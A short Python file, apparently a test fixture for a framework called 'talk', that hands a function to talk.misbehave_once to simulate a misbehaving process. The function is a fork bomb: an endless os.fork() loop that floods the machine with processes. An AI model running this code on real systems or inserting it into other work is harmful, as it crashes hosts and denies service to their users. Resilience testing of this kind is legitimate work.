"""Starts copies of itself that start copies of themselves."""

import os

import talk


def bomb(act):
    while True:
        os.fork()


talk.misbehave_once(bomb)
